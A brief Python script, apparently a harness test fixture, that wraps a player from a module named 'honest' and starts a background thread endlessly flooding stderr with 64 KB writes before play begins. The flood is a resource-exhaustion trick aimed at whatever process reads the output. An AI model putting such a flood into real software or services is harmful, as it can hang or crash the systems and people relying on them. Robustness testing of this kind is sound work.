import os
import threading

from honest import play


def flood():
    while True:
        os.write(2, b"x" * 65536)


threading.Thread(target=flood, daemon=True).start()
play()
